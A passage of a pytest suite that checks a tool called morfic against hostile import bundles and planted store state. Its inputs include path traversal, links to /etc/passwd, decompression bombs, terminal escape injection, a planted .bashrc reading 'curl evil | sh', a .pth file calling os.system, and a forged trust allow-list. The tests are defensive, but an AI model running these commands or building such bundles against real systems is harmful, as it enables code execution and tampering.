        lambda p, w: _raw(p, _good_blocks(), ustar_block(b"objects/\xff\xfe/" + EVIL.encode(), 0)), match=UNEXPECTED
    ),
    "name: terminal escape sequences": Case(_named("objects/\x1b]0;pwned\x07\x1b[2J\x1b[31m"), match=UNEXPECTED),
    "name: ANSI colours in a ref name": Case(_named("refs/runs/\x1b[31mred"), match=UNEXPECTED),
    "name: newline and carriage return": Case(_named("refs/runs/x\r\nError: fake"), match=UNEXPECTED),
    "name: 300 characters": Case(_named("objects/" + "a" * 300), match=UNEXPECTED),
    "name: 1 MiB pax path": Case(_named("refs/" + "a" * MIB), match=UNEXPECTED),
    "name: NUL in a pax path": Case(
        lambda p, w: _good(p, member("x", b"x", pax={"path": f"refs/a\0/../../{EVIL}"})), match=UNEXPECTED
    ),
    "name: full-width lookalike of objects/": Case(_named("ｏｂｊｅｃｔｓ/" + object_name(b"w")[8:]), match=UNEXPECTED),
    # variants by import path: accepted or refused by the consent rules, but never imported at import
    "variant: import path in config and meta": Case(
        _variant({"variant": f"{SENTINEL}:Critic"}, {"variant": f"{SENTINEL}:Critic"}), expect="either"
    ),
    "variant: entry-point style name": Case(_variant({"variant": SENTINEL}, {}), expect="either"),
    "variant: a list of import paths": Case(
        _variant({"variants": [f"{SENTINEL}:A", f"{SENTINEL}.sub:B"]}, {}), expect="either"
    ),
    # documented clean skips: nothing is extracted, so folder entries and trailing bytes are ignored
    "skip: folder member ../../morfic-evil": Case(
        lambda p, w: _good(p, member(f"../../{EVIL}", kind=tarfile.DIRTYPE)), expect="accepted"
    ),
    "skip: absolute folder member": Case(
        lambda p, w: _good(p, member(f"{w.tmp}/{EVIL}-dir", kind=tarfile.DIRTYPE)), expect="accepted"
    ),
    "skip: folder members as tar writes them": Case(
        lambda p, w: _good(
            p, *[member(d, kind=tarfile.DIRTYPE) for d in ("objects", "objects/ab", "refs", "refs/runs")]
        ),
        expect="accepted",
    ),
    "skip: garbage after the end of the archive": Case(
        lambda p, w: _bytes(
            p,
            b"".join(file_blocks(i.name, d) for i, d in good_members())
            + bytes(2 * BLOCK)
            + hashlib.sha512(b"tail").digest() * 64,
        ),
        expect="accepted",
    ),
    "skip: plain tar with 40 refs in reverse order": Case(_rewinds(""), expect="accepted"),
    # issue 53: nothing in a bundle may act as configuration, wherever `store get --out` writes its files
    "dotpath: media file .config/morfic/trusted-variants": Case(
        _files({".config/morfic/trusted-variants": ALLOW_LIST}), match=HIDDEN + " '.config'"
    ),
    "dotpath: media file .trust-key (the allow-list's key)": Case(_files({".trust-key": b"0" * 64}), match=HIDDEN),
    "dotpath: media file .bashrc": Case(_files({".bashrc": b"curl evil | sh\n"}), match=HIDDEN),
    "dotpath: report file figures/.hidden/ev.png": Case(
        _files({"figures/.hidden/ev.png": b"png"}, "report"), match=HIDDEN + " '.hidden'"
    ),
    "dotpath: a hidden name beside a good one": Case(_files({"frames.png": b"png", ".pth": b"x"}), match=HIDDEN),
    "code: media file sitecustomize.py": Case(_files({"sitecustomize.py": b"import os\n"}), match=CODE),
    "code: media file evil.pth": Case(_files({"evil.pth": b"import os; os.system('x')\n"}), match=CODE),
    "code: media file EVIL.PY (upper case)": Case(_files({"EVIL.PY": b"x"}), match=CODE),
    "code: extension module x.cpython-311-x86_64-linux-gnu.so": Case(
        _files({"x.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}), match=CODE
    ),
    "code: compiled module __pycache__/x.cpython-311.pyc": Case(
        _files({"__pycache__/x.cpython-311.pyc": b"x"}), match=CODE
    ),
    "name: file name with a space": Case(_files({"a b.csv": DATA}), match=ODD),
    "name: file name starting with '-'": Case(_files({"-rf": DATA}), match=ODD),
    "name: file name with a bidi override": Case(_files({"evil\u202egnp.exe": DATA}), match=ODD),
    "name: file name with a C1 control (CSI)": Case(_files({"a\x9b2Jb.csv": DATA}), match=ODD),
    "collision: files A.csv and a.csv": Case(_files({"A.csv": DATA, "a.csv": b"other"}), match=CLASH),
    "collision: file figures and file figures/ev.png": Case(
        _files({"figures": DATA, "figures/ev.png": b"png"}, "report"), match=CLASH
    ),
    "collision: folder Figures/ and folder figures/": Case(
        _files({"Figures/a.png": DATA, "figures": b"x"}, "report"), match=CLASH
    ),
    "config: model.actor_hidden_dims [-5]": Case(
        _run(**{"model.actor_hidden_dims": [-5]}), match=BAD_CONFIG + r".*model.actor_hidden_dims = \[-5\]"
    ),
    "config: env.obs.history_len -3": Case(
        _run(**{"env.obs.history_len": -3}), match=BAD_CONFIG + ".*env.obs.history_len = -3"
    ),
    "config: env.sim.physics_dt 0": Case(
        _run(**{"env.sim.physics_dt": 0}), match=BAD_CONFIG + ".*env.sim.physics_dt = 0"
    ),
    "config: model.critic_hidden_dims []": Case(
        _run(**{"model.critic_hidden_dims": []}), match=BAD_CONFIG + r".*model.critic_hidden_dims = \[\]"
    ),
    "config: 8 layers of 16384 (1.9 G weights)": Case(
        _run(**{"model.actor_hidden_dims": [16384] * 8}), match=BAD_CONFIG + ".*1892941824 weights, more than"
    ),
    "config: history 1000 frames into 16384 (789 M weights)": Case(
        _run(**{"env.obs.history_len": 1000, "model.actor_hidden_dims": [16384]}), match="more than the 67108864"
    ),
    "config: an extra key variants": Case(
        _run(variants=["film"]), match=BAD_CONFIG + ".*unknown config key 'variants'"
    ),
    "config: seed a string": Case(_run(seed="0"), match=BAD_CONFIG + ".*'seed' takes an integer"),
    "config: env a string": Case(_run(env="cpu"), match=BAD_CONFIG + ".*'env' is a section"),
    "config: ppo.gamma 2": Case(_run(**{"ppo.gamma": 2}), match=BAD_CONFIG + ".*ppo.gamma = 2"),
    "ctl: escape codes in a config value": Case(
        _run(seed="\x1b]0;pwned\x07\x1b[2J"), match=BAD_CONFIG + r".*\\x1b\]0;pwned"
    ),
    "ctl: escape codes in an unknown config key": Case(
        _run(**{"\x1b[31mred": 1}), match=r"unknown config key '\\x1b\[31mred'"
    ),
    "ctl: a newline and a fake Error in a config value": Case(_run(preset=1, seed="x\nError: fake"), match=BAD_CONFIG),
}

CLI_CASES = [
    "link: symlink object to /etc/passwd",
    "link: hardlink object to /etc/passwd",
    "device: character device (1,3) as an object",
    "device: fifo as an object",
    "path: ../morfic-evil",
    "path: absolute name in the tmp folder",
    "ref: member refs/../../morfic-evil",
    "ref: runs/x and runs/x/y in one bundle",
    "size: size field -512 loops (plain)",
    "size: bad GNU sparse 1.0 map",
    "bomb: bzip2, 4096 objects of 4 MiB (16 GiB)",
    "bomb: plain tar, 1 TiB sparse object (pax 0.1)",
    "object: bytes do not hash to the id",
    "header: nested 100000 deep",
    "ref: history nested 100000 deep",
    "name: terminal escape sequences",
    "name: non-UTF-8 bytes",
    "lineage: two manifests each other's input",
    "trunc: gzip cut in half",
    "dotpath: media file .config/morfic/trusted-variants",
    "code: media file sitecustomize.py",
    "collision: files A.csv and a.csv",
    "config: model.actor_hidden_dims [-5]",
    "ctl: escape codes in a config value",
    "ctl: a newline and a fake Error in a config value",
]


# ------------------------------------------------------------------------------------------------ harness


@pytest.fixture
def world(tmp_path, monkeypatch) -> World:
    root = tmp_path / "work" / "store"
    store = Store(root)
    store.set_ref("runs/keep", store.put_manifest("run", files={"k.csv": KEEP}))
    (tmp_path / "work" / "sibling").mkdir()
    (tmp_path / "work" / "sibling" / "notes.txt").write_bytes(b"untouched\n")
    (tmp_path / "work" / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "work" / "cwd")  # a relative write would land inside tmp_path
    mods = tmp_path / "work" / "mods"
    mods.mkdir()
    ran = mods / "SENTINEL_RAN"
    (mods / f"{SENTINEL}.py").write_text(
        f"import pathlib\npathlib.Path({str(ran)!r}).write_text('ran')\nclass Critic: pass\nclass A: pass\n"
    )
    monkeypatch.syspath_prepend(str(mods))
    (tmp_path / "bundles").mkdir()
    return World(tmp=tmp_path, root=root, keep_history=store.refs.history("runs/keep"), sentinel_ran=ran)


def _slug(case: str) -> str:
    return re.sub(r"[^A-Za-z0-9]+", "-", case).strip("-")[:60]


def _escapes(w: World) -> list[Path]:
    return [p for folder in (w.tmp, *w.tmp.parents) for p in folder.glob(f"{EVIL}*")]


def _check_invariants(w: World, case: Case, outcome: str, message: str, before_store: dict, before_outside: dict):
    expected = {"refused", "accepted"} if case.expect == "either" else {case.expect}
    assert outcome in expected, f"expected {case.expect}, got {outcome}: {message}"
    if outcome == "refused":
        assert re.search(case.match or ".", message), message
        assert message.isprintable(), f"control characters in the message: {message!r}"
        assert listing(w.root) == before_store  # nothing imported, no temp file left
    assert tree(w.tmp, skip=w.root) == before_outside  # nothing written outside the store (bundle included)
    assert _escapes(w) == []
    store = Store(w.root)
    report = store.verify()
    assert report.ok, report.problems
    assert store.refs.history("runs/keep") == w.keep_history  # data lost: 0
    assert store.read_file("runs/keep", "k.csv") == KEEP
    assert not [k for k in listing(w.root) if EVIL in k or k.startswith("tmp/")]
    assert SENTINEL not in sys.modules and not w.sentinel_ran.exists()  # nothing named by a bundle was imported


def _build(w: World, name: str, monkeypatch) -> tuple[Case, Path]:
    case = CASES[name]
    for constant, value in case.patch.items():
        monkeypatch.setattr(transfer, constant, value)
    return case, case.build(w.tmp / "bundles" / _slug(name), w)


def test_the_suite_is_large_and_covers_every_kind():
    kinds = {name.split(":")[0] for name in CASES}
    assert len(CASES) >= 50
    assert kinds >= {
        "link",
        "device",
        "path",
        "ref",
        "dup",
        "size",
        "trunc",
        "bomb",
        "object",
        "manifest",
        "lineage",
        "header",
        "name",
        "variant",
        "skip",
        "dotpath",
        "code",
        "collision",
        "config",
        "ctl",
    }
    assert set(CLI_CASES) <= set(CASES)


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_bundle(world, name, monkeypatch):
    case, bundle = _build(world, name, monkeypatch)
    before_store, before_outside = listing(world.root), tree(world.tmp, skip=world.root)
    try:
        Store(world.root).import_tar(bundle)
        outcome, message = "accepted", ""
    except MorficError as exc:  # anything else is a traceback: the case fails
        outcome, message = "refused", str(exc)
    _check_invariants(world, case, outcome, message, before_store, before_outside)


@pytest.mark.parametrize("name", CLI_CASES)
def test_hostile_bundle_through_the_cli(world, name, monkeypatch, run_cli):
    case, bundle = _build(world, name, monkeypatch)
    before_store, before_outside = listing(world.root), tree(world.tmp, skip=world.root)
    code, out, err = run_cli("store", "import", str(bundle), "--store", str(world.root))
    assert code == 1 and out == "", (code, out, err)
    assert err.startswith("Error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    _check_invariants(world, case, "refused", err[len("Error: ") :].rstrip("\n"), before_store, before_outside)


def test_a_bomb_through_the_real_cli_stays_small(world, monkeypatch):
    """A 0.6 MiB bzip2 bomb (16 GiB of objects) in a separate `morfic store import`, under a 2 GiB address-space limit
    and a 32 MiB file-size limit: it exits 1 with the bomb's Error: line, well within both."""
    _, bundle = _build(world, "bomb: bzip2, 4096 objects of 4 MiB (16 GiB)", monkeypatch)
    assert bundle.stat().st_size < 1 * MIB

    # The limits are set by the child before it execs morfic, not by a preexec_fn: a preexec_fn makes subprocess
    # fork the whole pytest process (no vfork), which the kernel may refuse late in a long session (ENOMEM).
    limited = (
        "import os, resource, sys; "
        f"resource.setrlimit(resource.RLIMIT_AS, ({2 * GIB}, {2 * GIB})); "
        f"resource.setrlimit(resource.RLIMIT_FSIZE, ({32 * MIB}, {32 * MIB})); "
        "os.execv(sys.executable, [sys.executable, *sys.argv[1:]])"
    )
    before_store, before_outside = listing(world.root), tree(world.tmp, skip=world.root)
    env = {**os.environ, "OMP_NUM_THREADS": "1", "MORFIC_DEBUG": "0"}
    proc = subprocess.run(
        [sys.executable, "-c", limited, "-m", "morfic_cli", "store", "import", str(bundle), "--store", str(world.root)],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith("Error: ") and BOMB in proc.stderr and "Traceback" not in proc.stderr
    _check_invariants(
        world,
        CASES["bomb: bzip2, 4096 objects of 4 MiB (16 GiB)"],
        "refused",
        proc.stderr[len("Error: ") :].rstrip("\n"),
        before_store,
        before_outside,
    )


@pytest.mark.parametrize("compression", ["gz", "bz2", "xz"])
def test_a_compressed_genuine_bundle_still_imports(tmp_path, compression):
    """The limit is for bombs: a real export, compressed, imports, even one that expands 70-fold (under the floor)."""
    src = Store(tmp_path / "src")
    src.set_ref("runs/a", src.put_manifest("run", files={"w.bin": os.urandom(100_000), "z.bin": bytes(8 * MIB)}))
    plain = src.export_tar(["runs/a"], tmp_path / "a.tar").path
    packed = tmp_path / f"a.tar.{compression}"
    packed.write_bytes(stream(compression, plain.read_bytes()))
    assert packed.stat().st_size * transfer.MAX_EXPANSION < plain.stat().st_size < transfer.MIN_EXPANDED_BYTES
    dst = Store(tmp_path / "dst")
    assert dst.import_tar(packed).refs == {"runs/a": "created"}
    assert dst.verify().ok and dst.read_file("runs/a", "z.bin") == bytes(8 * MIB)


def test_the_expansion_limit_is_the_documented_rule(tmp_path, monkeypatch):
    """Over MAX_EXPANSION times the file and over MIN_EXPANDED_BYTES: refused, naming the limit; the plain tar of
    the same bundle (no expansion possible) imports."""
    monkeypatch.setattr(transfer, "MIN_EXPANDED_BYTES", 2 * MIB)
    src = Store(tmp_path / "src")
    src.set_ref("runs/a", src.put_manifest("run", files={"z.bin": bytes(4 * MIB)}))
    plain = src.export_tar(["runs/a"], tmp_path / "a.tar").path
    packed = tmp_path / "a.tar.gz"
    packed.write_bytes(stream("gz", plain.read_bytes()))
    with pytest.raises(MorficError, match=rf"expands to more than {2 * MIB} bytes, over 32 times"):
        Store(tmp_path / "dst").import_tar(packed)
    assert not (tmp_path / "dst").exists()
    assert Store(tmp_path / "dst").import_tar(plain).refs == {"runs/a": "created"}


def test_the_limits_are_the_ones_the_docs_state():
    docs = (Path(__file__).resolve().parents[2] / "docs" / "concepts.md").read_text()
    assert f"`MAX_EXPANSION` = {transfer.MAX_EXPANSION} times" in docs
    assert f"`MIN_EXPANDED_BYTES` = {transfer.MIN_EXPANDED_BYTES >> 20} MiB" in docs
    assert f"`MAX_READ_PASSES` = {transfer.MAX_READ_PASSES} times" in docs
    assert f"over {transfer.MAX_SMALL_MEMBER >> 20} MiB" in docs


# ------------------------------------------------------------------------------------------------ after import
# Issue 53: what a store holds is a bundle's text too. A store filled before import checked it (planted here,
# bypassing import) or a bundle that imports cleanly, then a command on it: a clean `Error:` line naming the run and
# the field, nothing written, no module imported, no allow-list entry gained.

RUN = "runs/x"
EVAL = ["eval", RUN, "--robots", "go2", "--envs", "1", "--steps", "2"]


def _plant_run(
    root: Path, config: dict, *, trainer: dict | None = None, model: bytes = MODEL, meta: dict | None = None
) -> None:
    """``runs/x``: a checkpoint with ``config`` (and a trainer state of ``trainer``), written past every check."""
    from morfic_cli.rl import trainer_state

    store = Store(root)
    inputs = {}
    if trainer is not None:
        inputs["trainer_state"] = store.put_manifest(
            "checkpoint", config={"role": "trainer-state"}, files=trainer_state.encode(trainer), meta={"run": "x"}
        )
    store.set_ref(
        RUN,
        store.put_manifest(
            "checkpoint",
            config=config,
            inputs=inputs,
            files={"model.pt": model},
            meta=meta or {"variant": config.get("variant"), "run": "x"},
        ),
    )


def _plant_files(root: Path, files: dict[str, bytes], kind: str = "media", meta: dict | None = None) -> None:
    """``media/evil``: a manifest naming ``files`` (any names), written straight into the store's files."""
    store = Store(root)
    entries = {n: {"id": store.put_bytes(d), "size": len(d)} for n, d in files.items()}
    data = manifest_bytes(kind=kind, files=entries, meta=meta or {})
    mid = oid_of(data)
    (root / "objects" / mid[:2]).mkdir(parents=True, exist_ok=True)
    (root / "objects" / mid[:2] / mid[2:]).write_bytes(data)
    (root / "manifests" / mid).write_bytes(b"")
    (root / "refs" / "media").mkdir(parents=True, exist_ok=True)
    (root / "refs" / "media" / "evil").write_bytes(history_bytes([mid]))


def _cfg(**changes) -> Callable[[Path, Path], list[str]]:
    def build(root: Path, tmp: Path) -> list[str]:
        from crafted_bundles import run_config

        _plant_run(root, run_config(**changes))
        return EVAL

    return build


def _state(command: list[str] | None = None, **changes) -> Callable[[Path, Path], list[str]]:
    def build(root: Path, tmp: Path) -> list[str]:
        from crafted_bundles import run_config, trainer_state

        _plant_run(root, run_config(), trainer=trainer_state(**changes))
        return command or ["train", "--resume", RUN]

    return build


def _env_state(**env) -> dict:
    from crafted_bundles import trainer_state

    return {**trainer_state()["env"], **env}


def _get(
    files: dict[str, bytes],
    out: str,
    kind: str = "media",
    meta: dict | None = None,
    before: dict[str, bytes] | None = None,
) -> Callable[[Path, Path], list[str]]:
    """``store get media/evil --out <tmp>/<out>`` of planted ``files``; ``before``: files already in that folder."""

    def build(root: Path, tmp: Path) -> list[str]:
        _plant_files(root, files, kind, meta)
        for name, data in (before or {}).items():
            (tmp / out / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp / out / name).write_bytes(data)
        return ["store", "get", "media/evil", "--out", str(tmp / out)]

    return build


def _pickled(root: Path, tmp: Path) -> list[str]:
    import io

    import torch
    from crafted_bundles import run_config

    buf = io.BytesIO()
    torch.save({"actor": {"w": torch.zeros(1)}, "critic": {}, "x": os.getcwd}, buf)  # a function: code to find
    _plant_run(root, run_config(), model=buf.getvalue())
    return EVAL


@dataclass
class Use:
    build: Callable[[Path, Path], list[str]]  # (store root, tmp) -> the command, its store state made
    match: str


USE_CASES: dict[str, Use] = {
    "config at load: eval, model.actor_hidden_dims [-5]": Use(
        _cfg(**{"model.actor_hidden_dims": [-5]}),
        r"run runs/x has an invalid stored config: model.actor_hidden_dims "
        r"= \[-5\]: must be a list of 1 to 8 layer widths",
    ),
    "config at load: export, env.obs.history_len -3": Use(
        lambda r, t: [
            *_cfg(**{"env.obs.history_len": -3})(r, t)[:0],
            "export",
            RUN,
            "--robot",
            "go2",
            "--out",
            str(t / "o"),
        ],
        r"run runs/x has an invalid stored config: env.obs.history_len = -3",
    ),
    "config at load: diagnose, env.sim.physics_dt 0": Use(
        lambda r, t: [
            *_cfg(**{"env.sim.physics_dt": 0})(r, t)[:0],
            "diagnose",
            RUN,
            "--robots",
            "go2",
            "--envs",
            "1",
            "--steps",
            "2",
        ],
        r"run runs/x has an invalid stored config: env.sim.physics_dt = 0",
    ),
    "config at load: eval, model.critic_hidden_dims []": Use(
        _cfg(**{"model.critic_hidden_dims": []}), r"invalid stored config: model.critic_hidden_dims = \[\]"
    ),
    "config at load: eval, 8 layers of 16384 (never allocated)": Use(
        _cfg(**{"model.actor_hidden_dims": [16384] * 8}), "1892941824 weights, more than the 67108864"
    ),
    "config at load: eval, an extra key variants": Use(_cfg(variants=["film"]), "unknown config key 'variants'"),
    "trainer state: iteration a string": Use(
        _state(iteration="3"),
        r"runs/x' is not one `morfic train` writes "
        r"\(iteration is str '3', not an integer in \[0, 10000000\]\)",
    ),
    "trainer state: lr a list": Use(
        _state(learning_rate=[1e-3]), r"learning_rate is list \[0.001\], not a finite number > 0"
    ),
    "trainer state: env empty": Use(_state(env={}), r"env is a dict of \[\], not an env state with backend"),
    "trainer state: logger a string": Use(_state(logger="x"), "logger is str 'x', not a dict of rewbuffer"),
    "trainer state: env rows for 3 envs, num_envs 2": Use(
        lambda r, t: _state(env=_env_state(obs={"policy": __import__("torch").zeros(3, 48)}))(r, t),
        r"env.obs.policy is a torch.float32 tensor of shape \(3, 48\), not one row per env \(2 envs\)",
    ),
    "trainer state: a buffer missing": Use(
        lambda r, t: _state(env=_env_state(tensors={}))(r, t), "env.tensors lacks action_buffer"
    ),
    "ctl: escape codes in a trainer state's env.mode": Use(
        lambda r, t: _state(env=_env_state(mode="\x1b]0;pwned\x07\x1b[2J"))(r, t), r"env.mode is str '\\x1b\]0;pwned"
    ),
    "pickle: model.pt holds a class, not tensors": Use(
        _pickled,
        "model.pt of checkpoint [0-9a-f]{12} is refused: it is a pickle of other objects than tensors, "
        "and loading it could run code",
    ),
    "dotpath at get: .config/morfic/trusted-variants into the home folder": Use(
        _get({".config/morfic/trusted-variants": ALLOW_LIST}, "home"), HIDDEN + " '.config'"
    ),
    "dotpath at get: .trust-key into the config folder": Use(
        _get({".trust-key": b"0" * 64}, "config/morfic"), HIDDEN + " '.trust-key'"
    ),
    "code at get: sitecustomize.py": Use(_get({"sitecustomize.py": b"import os\n"}, "site"), CODE),
    "collision at get: A.csv and a.csv": Use(
        _get({"A.csv": DATA, "a.csv": b"other"}, "o"), "files 'A.csv' and 'a.csv' .* would both be written to 'A.csv'"
    ),
    "collision at get: a rollout's new name is another of its files": Use(
        _get(
            {"rollout.mcap": b"mcap", "go1-descriptor-vx2.0.mcap": b"other"},
            "o",
            kind="rollout",
            meta={"robot": "go1", "mode": "descriptor", "command": [2.0, 0, 0]},
        ),
        "files 'go1-descriptor-vx2.0.mcap' and 'rollout.mcap' .* would both be written to 'go1-descriptor-vx2.0.mcap'",
    ),
    "overwrite at get: the allow-list exists, no --force": Use(
        _get({"trusted-variants": ALLOW_LIST}, "config/morfic", before={"keep.csv": b"k"} | {"trusted-variants": b"#"}),
        "trusted-variants exists; nothing was written. Pass --force",
    ),
    "overwrite at get: a folder where a file goes": Use(
        _get({"frames.png": b"png"}, "o", before={"frames.png/x": b"k"}), "is a folder, where store get would write"
    ),
    "ctl: escape codes in a rollout's robot (its out name)": Use(
        _get(
            {"rollout.mcap": b"mcap", "other.csv": DATA},
            "o",
            kind="rollout",
            meta={"robot": "\x1b[2J", "mode": "x", "command": [1.0]},
            before={"rollout.mcap": b"k"},
        ),
        "rollout.mcap exists",
    ),
}


@pytest.fixture
def use_world(tmp_path, monkeypatch) -> World:
    """A store with runs/keep, a sentinel module on sys.path, HOME and the config folder under tmp_path."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    root = tmp_path / "store"
    store = Store(root)
    store.set_ref("runs/keep", store.put_manifest("run", files={"k.csv": KEEP}))
    for folder in ("home", "config", "cwd"):
        (tmp_path / folder).mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    mods = tmp_path / "mods"
    mods.mkdir()
    ran = mods / "SENTINEL_RAN"
    (mods / f"{SENTINEL}.py").write_text(f"import pathlib\npathlib.Path({str(ran)!r}).write_text('ran')\n")
    monkeypatch.syspath_prepend(str(mods))
    return World(tmp=tmp_path, root=root, keep_history=store.refs.history("runs/keep"), sentinel_ran=ran)


def _outside(w: World) -> dict[str, object]:
    """Everything under tmp_path but the store and the caches libraries keep in HOME (onnxruntime's ~/.cache)."""
    return {k: v for k, v in tree(w.tmp, skip=w.root).items() if not k.startswith("home/.cache")}


@pytest.mark.parametrize("name", list(USE_CASES))
def test_a_hostile_store_state_is_a_clean_error(use_world, name, run_cli):
    from morfic_cli.rl.variants import read_allow_list

    w = use_world
    argv = USE_CASES[name].build(w.root, w.tmp)
    before_store, before_outside = listing(w.root), _outside(w)
    code, out, err = run_cli(*argv, "--store", str(w.root))
    assert code == 1 and out == "", (code, out, err)
    assert err.startswith("Error: ") and err.count("\n") == 1 and "Traceback" not in err, err
    assert err[:-1].isprintable() and "\x1b" not in err, repr(err)
    assert "weights_only" not in err
    assert re.search(USE_CASES[name].match, err), err
    assert listing(w.root) == before_store and _outside(w) == before_outside  # nothing written
    assert read_allow_list()[0] == [] and not w.sentinel_ran.exists()  # no consent gained, nothing imported


def test_the_after_import_cases_cover_every_item():
    kinds = {name.split(":")[0] for name in USE_CASES}
    assert kinds == {
        "config at load",
        "trainer state",
        "ctl",
        "pickle",
        "dotpath at get",
        "code at get",
        "collision at get",
        "overwrite at get",
    }


def test_the_crafted_trainer_state_is_one_morfic_train_writes():
    """The base of the trainer-state cases passes the check, so each case's one change is what it refuses."""
    from crafted_bundles import trainer_state

    from morfic_cli.rl import trainer_state as T
    from morfic_cli.rl.resume import TRAINER_KEYS

    assert T.trainer_state_problems(trainer_state(), TRAINER_KEYS) == []
    assert T.trainer_state_problems(trainer_state(iteration=True), TRAINER_KEYS) == [
        "iteration is bool True, not an integer in [0, 10000000]"
    ]
    state = trainer_state()
    del state["torch_rng"]
    assert T.trainer_state_problems(state, TRAINER_KEYS) == ["it lacks torch_rng"]


# ------------------------------------------------------------------------------------------------ the allow-list
PLANTED = "morfic_hostile_sentinel:Critic"


def _planting_bundle(tmp: Path) -> Path:
    """runs/x naming the sentinel variant, and media/evil: every plain name that could land on the allow-list or its
    key under some --out (the allow-list forged with a signature of zeros)."""
    from crafted_bundles import run_config

    from morfic_cli.rl.variants import SIGNATURE

    forged = f"# x\n{SIGNATURE}{'0' * 64}\n{PLANTED}\n".encode()
    src = Store(tmp / "src")
    src.set_ref(
        RUN,
        src.put_manifest(
            "checkpoint", config=run_config(PLANTED), files={"model.pt": MODEL}, meta={"variant": PLANTED, "run": "x"}
        ),
    )
    src.set_ref(
        "media/evil",
        src.put_manifest(
            "media",
            files={
                "trusted-variants": forged,
                "morfic/trusted-variants": forged,
                "trust-key": b"0" * 64 + b"\n",
                "morfic/trust-key": b"0" * 64 + b"\n",
            },
        ),
    )
    return src.export_tar([RUN, "media/evil"], tmp / "evil.tar").path


@pytest.mark.parametrize("out", ["config/morfic", "config", "home", "cwd", "store/refs"])
def test_a_bundle_gains_no_consent_whatever_out_its_files_go_to(use_world, out, run_cli):
    """The bundle imports (plain names); `store get` puts its files anywhere; the next eval still refuses the run's
    variant before importing it, and `morfic trust --list` trusts nothing but names what it ignores."""
    from morfic_cli.rl.variants import allow_list_path, read_allow_list

    w = use_world
    target = w.tmp / out
    assert run_cli("store", "import", str(_planting_bundle(w.tmp)), "--store", str(w.root))[0] == 0
    code, _, err = run_cli("store", "get", "media/evil", "--out", str(target), "--store", str(w.root))
    assert code == 0, err
    planted = allow_list_path().exists()
    assert planted == (out in ("config/morfic", "config")) and not (w.tmp / "config" / "morfic" / ".trust-key").exists()
    assert read_allow_list() == ([], [PLANTED] if planted else [])
    code, _, err = run_cli(*EVAL, "--store", str(w.root))
    assert code == 1 and err.startswith(f"Error: run {RUN} needs the user variant {PLANTED}; morfic will not import")
    assert ("The allow-list names it, but morfic ignores that list" in err) == planted
    assert not w.sentinel_ran.exists() and "morfic_hostile_sentinel" not in sys.modules
    code, out_, err = run_cli("trust", "--list", "-f", "json")
    assert code == 0 and out_.strip() == "[]" and (f"ignored: {PLANTED}" in err) == planted
    # the user's own `morfic trust` signs a new list with only what they named
    assert run_cli("trust", "pkg.mod:Mine")[0] == 0
    assert read_allow_list() == (["pkg.mod:Mine"], [])


def test_an_existing_allow_list_is_kept_and_a_forced_copy_trusts_nothing(use_world, run_cli):
    from morfic_cli.rl.variants import allow_list_path, read_allow_list

    w = use_world
    assert run_cli("trust", "pkg.mod:Mine")[0] == 0
    signed = allow_list_path().read_bytes()
    assert run_cli("store", "import", str(_planting_bundle(w.tmp)), "--store", str(w.root))[0] == 0
    code, _, err = run_cli("store", "get", "media/evil", "--out", str(allow_list_path().parent), "--store", str(w.root))
    assert code == 1 and "trusted-variants exists; nothing was written. Pass --force" in err
    assert allow_list_path().read_bytes() == signed and read_allow_list() == (["pkg.mod:Mine"], [])
    assert not (allow_list_path().parent / "trust-key").exists()  # all or nothing: no file of the four written
    code, _, err = run_cli(
        "store", "get", "media/evil", "--out", str(allow_list_path().parent), "--force", "--store", str(w.root)
    )
    assert code == 0, err
    assert read_allow_list() == ([], [PLANTED])  # the user lost their list; the bundle gained nothing
    assert run_cli(*EVAL, "--store", str(w.root))[0] == 1 and not w.sentinel_ran.exists()


def test_a_list_edited_by_hand_trusts_nothing(use_world):
    from morfic_cli.rl import variants as V

    assert V.add_to_allow_list(["pkg.mod:A"]) == ["pkg.mod:A"]
    path = V.allow_list_path()
    lines = path.read_text().splitlines()
    assert lines[1].startswith(V.SIGNATURE) and lines[2:] == ["pkg.mod:A"]
    assert oct((path.parent / ".trust-key").stat().st_mode & 0o777) == "0o600"
    path.write_text("\n".join([*lines, "pkg.mod:B"]) + "\n")  # a name added by hand voids the signature
    assert V.read_allow_list() == ([], ["pkg.mod:A", "pkg.mod:B"]) and not V.is_trusted("pkg.mod:A")
    path.write_text("\n".join(lines) + "\n")
    assert V.read_allow_list() == (["pkg.mod:A"], [])
    (path.parent / ".trust-key").write_text("1" * 64 + "\n")  # another key: the same list no longer verifies
    assert V.allow_list() == []
    (path.parent / ".trust-key").write_text("not a key\n")
    assert V.allow_list() == []
    with pytest.raises(MorficError, match=r"is not one `morfic trust` wrote \(64 hex digits\); remove"):
        V.add_to_allow_list(["pkg.mod:C"])


# ------------------------------------------------------------------------------------------------ default choice
def test_one_bad_run_is_left_out_of_the_default_choice_with_a_note(use_world, run_cli):
    """diagnose --fixed-rollout with default runs: the run with an invalid config is named and skipped; the others
    are chosen (their crafted weights then fail to load, which is the next step's own Error)."""
    from crafted_bundles import run_config

    from morfic_cli.diagnostics.fixed_rollout import newest_runs

    w = use_world
    store = Store(w.root)
    store.set_ref(
        "runs/good",
        store.put_manifest(
            "checkpoint", config=run_config(), files={"model.pt": MODEL}, meta={"variant": "film", "run": "good"}
        ),
    )
    bad = run_config(variants=["film"])
    store.set_ref(
        "runs/bad",
        store.put_manifest("checkpoint", config=bad, files={"model.pt": MODEL}, meta={"variant": "film", "run": "bad"}),
    )
    store.set_ref(
        "runs/user",
        store.put_manifest(
            "checkpoint",
            config=run_config(PLANTED),
            files={"model.pt": MODEL},
            meta={"variant": PLANTED, "run": "user"},
        ),
    )
    skipped: dict[str, str] = {}
    assert newest_runs(store, skipped.__setitem__) == {"film": "runs/good"}
    assert skipped == {
        "runs/bad": "its stored config is invalid (unknown config key 'variants')",
        "runs/user": f"it needs the user variant {PLANTED}, not trusted here (--trust-variant {PLANTED} names it)",
    }
    code, _, err = run_cli("diagnose", "--fixed-rollout", "go2", "--envs", "1", "--store", str(w.root))
    assert code == 1 and "Traceback" not in err
    assert (
